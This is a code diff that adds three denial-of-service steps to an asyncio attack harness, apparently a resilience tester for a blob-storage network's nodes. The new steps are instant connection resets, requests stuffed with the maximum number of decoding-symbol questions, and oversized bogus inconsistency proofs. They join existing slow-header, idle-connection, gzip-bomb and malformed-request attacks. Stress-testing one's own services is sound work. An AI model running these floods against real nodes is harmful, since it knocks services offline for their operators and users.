@@ -11,6 +11,7 @@ import contextlib
 import gzip
 import json
 import socket
+import struct
 import sys
 from collections import Counter
 from collections.abc import Awaitable, Callable
@@ -27,6 +28,7 @@ CONNECTING_AT_ONCE = 64
 DRIP_S = 1.0
 SMALL_BUFFER_BYTES = 2**12
 HEAD_PART = b"X-Padding: " + b"x" * 3000 + b"\r\n"
+PROOF_BYTES = 2**18
 BOMB = gzip.compress(bytes(2**22))
 """4 MiB of zeros."""
 
@@ -181,6 +183,28 @@ async def churn(attack: Attack) -> None:
             attack.counts[f"answers {await attack.asked(one, request)}"] += 1
 
 
+async def resets(attack: Attack) -> None:
+    """Connect, ask, and reset the connection at once."""
+    with await attack.connect() as one:
+        await asyncio.get_running_loop().sock_sendall(one, attack.head("GET", attack.sliver_path))
+        one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+
+
+async def questions(attack: Attack) -> None:
+    """Ask as many questions for symbols as one request holds."""
+    question = wire.Question(parse_blob_id(attack.blob_id), Axis.PRIMARY, range(1), range(1))
+    body = wire.questions_to_bcs([question] * wire.MAX_QUESTIONS)
+    request = attack.head("POST", "/v1/decodingSymbols", f"Content-Length: {len(body)}") + body
+    await _asked_again_and_again(attack, request)
+
+
+async def proofs(attack: Attack) -> None:
+    """Send proofs of inconsistency, as large as a node reads them, that prove nothing."""
+    body = bytes(PROOF_BYTES)
+    path = f"/v1/blobs/{attack.blob_id}/inconsistencyProof/primary"
+    await _asked_again_and_again(attack, attack.head("POST", path, f"Content-Length: {len(body)}") + body)
+
+
 ATTACKS: dict[str, tuple[int, Step]] = {
     "idle": (5000, idle),
     "slow heads": (2000, slow_head),
@@ -190,6 +214,9 @@ ATTACKS: dict[str, tuple[int, Step]] = {
     "the dearest": (1000, dearest),
     "signatures": (64, signatures),
     "churn": (200, churn),
+    "resets": (200, resets),
+    "questions": (400, questions),
+    "proofs": (64, proofs),
     "malformed": (64, malformed),
 }
 """Kind → how many at once, and what each of them does again and again."""
